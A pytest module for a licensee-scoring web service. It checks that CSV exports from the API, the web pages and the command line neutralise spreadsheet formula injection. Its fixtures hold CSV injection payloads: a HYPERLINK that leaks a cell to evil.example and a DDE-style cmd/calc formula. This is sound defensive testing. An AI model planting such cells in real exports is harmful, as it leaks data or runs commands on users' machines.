"""No CSV the service writes holds a cell that a spreadsheet would run as a formula.

Six of the served licensees get names and cities that are formulas (``=HYPERLINK``,
``+1``, ``-2+3``, ``@SUM``, a leading tab or carriage return), a few others a formula for
a field division; the list is scored again, a plan made and the transparency report
written, through the command line. Every CSV is then read the way a spreadsheet reads
it: each hostile cell must come out as the text it was, no cell anywhere as a formula,
and the numbers still as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from data.csv_cells import FORMULA_TRIGGERS, neutralise_cell, neutralise_frame, neutralise_row
from data.store import open_store, schema
from serving.app import create_app
from tests.homes import home_settings
from tests.serving.conftest import AS_OF, ServedHome, copy_home, invoke, loaded_client
from tests.serving.signing_in import sign_in

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Alpha Arms")',
    "+1 Guns",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 Tab Arms",
    "\r=2+2 Return Arms",
)
HOSTILE_CITIES = ("=1+1", "-2", "+Plus", "@City", "\tTabville", "\rReturnville")
HOSTILE_DIVISION = '=HYPERLINK("http://evil.example/","Houston")'
#: The report counts only complete years and plans made before its date.
REPORT_AS_OF = "2024-01-01"


def spreadsheet_reads(cell: str) -> tuple[str, object]:
    """What a spreadsheet makes of a CSV cell: text, a number or a formula.

    A leading single quote marks text (and is not shown); a cell that parses as a number
    is one; a cell starting, after any leading whitespace, with ``=``, ``+``, ``-`` or
    ``@`` is a formula; anything else is text.
    """
    if cell.startswith("'"):
        return "text", cell[1:]
    try:
        return "number", float(cell)
    except ValueError:
        pass
    if cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")):
        return "formula", cell
    return "text", cell


def read_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows, "the CSV has no rows"
    return rows


def read_file(path: Path) -> list[dict[str, str]]:
    # Bytes as written: read_text would turn a carriage return inside a value into "\n".
    return read_csv(path.read_bytes().decode("utf-8"))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    formulas = [cell for row in rows for cell in row.values()
                if spreadsheet_reads(cell)[0] == "formula"]
    assert formulas == []


@dataclass(frozen=True)
class HostileHome:
    """A copy of the session home whose licensees carry formulas, scored and planned."""

    home: ServedHome
    #: license number -> (business name, city) as stored.
    hostile: dict[str, tuple[str, str]]
    plan_id: int
    outputs: Path


def _update_dealers(home: Path, numbers: list[str], texts: list[tuple[str | None, str | None]],
                    division: str | None = None) -> None:
    """Set names and cities (or a division) in the home's store, closing it after: the
    commands run next in this process read SQLite through ADBC, which must not share it."""
    engine = open_store(f"sqlite:///{home / 'store.db'}")
    dealers = schema.dealers
    try:
        with engine.begin() as connection:
            for number, (name, city) in zip(numbers, texts, strict=True):
                values = ({"field_division": division} if division is not None
                          else {"business_name": name, "premise_city": city})
                connection.execute(update(dealers).where(dealers.c.license_number == number)
                                   .values(**values))
    finally:
        engine.dispose()


@pytest.fixture(scope="module")
def hostile_home(served_home: ServedHome, tmp_path_factory: pytest.TempPathFactory
                 ) -> HostileHome:
    root = tmp_path_factory.mktemp("hostile")
    home = copy_home(served_home.home, root / "home")
    outputs = root / "out"
    outputs.mkdir()
    # The plan's highest-scored picks: near the top of the list, and picked again by a plan
    # made on the same store (a name or city changes no score), wherever the model ranks
    # a licensee that no plan may pick (inspected last year, say).
    planned = sorted(read_file(served_home.home.parent / "plan.csv"),
                     key=lambda row: -float(row["score"]))
    top = [row["license_number"] for row in planned[:20]]
    hostile = dict(zip(top, zip(HOSTILE_NAMES, HOSTILE_CITIES, strict=True), strict=False))
    with home_settings(home):
        _update_dealers(home, top[:len(HOSTILE_NAMES)], list(hostile.values()))
        invoke("score", "--as-of", AS_OF, "--out", str(outputs / "scores.csv"))
        plan_id = int(invoke("plan", "--as-of", AS_OF, "--out", str(outputs / "plan.csv"))
                      .strip().splitlines()[-1])
        # A division named as a formula, for the report's by-division table.
        _update_dealers(home, top[-5:], [(None, None)] * 5, division=HOSTILE_DIVISION)
        invoke("report", "--as-of", REPORT_AS_OF, "--out", str(outputs / "report"))
    return HostileHome(ServedHome(home=home, tokens=served_home.tokens), hostile, plan_id,
                       outputs)


@pytest.fixture(scope="module")
def hostile_client(hostile_home: HostileHome) -> Iterator[TestClient]:
    with loaded_client(create_app(hostile_home.home.settings)) as client:
        yield client


def _signed_in(client: TestClient, hostile_home: HostileHome, user: str) -> TestClient:
    own = TestClient(client.app, follow_redirects=False)
    assert sign_in(own, hostile_home.home.tokens[user]).status_code == 303
    return own


def assert_hostile_cells_read_as_text(rows: list[dict[str, str]], hostile_home: HostileHome,
                                      expected: int) -> None:
    seen = 0
    for row in rows:
        if row["license_number"] in hostile_home.hostile:
            name, city = hostile_home.hostile[row["license_number"]]
            assert spreadsheet_reads(row["business_name"]) == ("text", name)
            assert spreadsheet_reads(row["premise_city"]) == ("text", city)
            seen += 1
        assert spreadsheet_reads(row["score"])[0] == "number"
    assert seen == expected
    assert_no_formula(rows)


def test_the_ranked_list_csv_of_the_api_and_the_page_reads_as_text(
    hostile_client: TestClient, hostile_home: HostileHome
) -> None:
    headers = hostile_home.home.headers("supervisor")
    api = hostile_client.get("/api/v1/dealers/ranked",
                             params={"limit": 50, "format": "csv"}, headers=headers)
    assert api.status_code == 200, api.text
    assert_hostile_cells_read_as_text(read_csv(api.text), hostile_home, len(HOSTILE_NAMES))
    accepted = hostile_client.get("/api/v1/dealers/ranked", params={"limit": 50},
                                  headers={**headers, "Accept": "text/csv"})
    assert accepted.text == api.text

    page = _signed_in(hostile_client, hostile_home, "supervisor").get("/dealers.csv")
    assert page.status_code == 200, page.text
    assert_hostile_cells_read_as_text(read_csv(page.text), hostile_home, len(HOSTILE_NAMES))


def test_the_plan_csv_of_the_api_the_page_and_the_command_reads_as_text(
    hostile_client: TestClient, hostile_home: HostileHome
) -> None:
    api = hostile_client.get(f"/api/v1/plans/{hostile_home.plan_id}?format=csv",
                             headers=hostile_home.home.headers("supervisor"))
    assert api.status_code == 200, api.text
    rows = read_csv(api.text)
    assert_hostile_cells_read_as_text(rows, hostile_home, len(HOSTILE_NAMES))
    assert all(spreadsheet_reads(row["selection_probability"])[0] == "number" for row in rows)

    written = read_file(hostile_home.outputs / "plan.csv")
    assert_hostile_cells_read_as_text(written, hostile_home, len(HOSTILE_NAMES))

    browser = _signed_in(hostile_client, hostile_home, "inspector")
    divisions = {row["field_division"] for row in rows
                 if row["license_number"] in hostile_home.hostile}
    page_rows = []
    for division in sorted(divisions):
        page = browser.get("/plan.csv", params={"division": division})
        assert page.status_code == 200, page.text
        page_rows += read_csv(page.text)
    assert_hostile_cells_read_as_text(page_rows, hostile_home, len(HOSTILE_NAMES))


def test_the_score_file_and_the_transparency_report_read_as_text(
    hostile_home: HostileHome
) -> None:
    scores = read_file(hostile_home.outputs / "scores.csv")
    assert_no_formula(scores)
    assert all(spreadsheet_reads(row["score"])[0] == "number" for row in scores)

    report = hostile_home.outputs / "report"
    tables = {path.name: read_file(path)
              for path in sorted(report.glob("*.csv"))}
    assert "by_field_division.csv" in tables
    for rows in tables.values():
        assert_no_formula(rows)
    divisions = [spreadsheet_reads(row["field_division"])
                 for row in tables["by_field_division.csv"]]
    assert ("text", HOSTILE_DIVISION) in divisions


def test_only_text_cells_that_start_a_formula_are_changed() -> None:
    import pandas as pd

    for trigger in FORMULA_TRIGGERS:
        assert neutralise_cell(f"{trigger}x") == f"'{trigger}x"
    assert neutralise_cell("Alpha Arms") == "Alpha Arms"
    assert neutralise_cell("O'Neil = fine") == "O'Neil = fine"  # only the first character
    assert neutralise_row(["-2+3", -2.5, 3, None, ""]) == ["'-2+3", -2.5, 3, None, ""]
    frame = pd.DataFrame({
        "name": ["=1+1", "Beta", None],
        "delta": [-1.5, 0.0, 2.0],
        "count": pd.Series([4, "<10", "-3"], dtype=object),
        "kind": pd.Categorical(["@x", "y", "@x"]),
    })

    out = neutralise_frame(frame)

    assert out["name"].tolist()[:2] == ["'=1+1", "Beta"] and pd.isna(out["name"].iloc[2])
    assert out["delta"].tolist() == [-1.5, 0.0, 2.0] and out["delta"].dtype == "float64"
    assert out["count"].tolist() == [4, "<10", "'-3"]
    assert out["kind"].tolist() == ["'@x", "y", "'@x"]
    assert frame["name"].iloc[0] == "=1+1"  # the input is left as it was
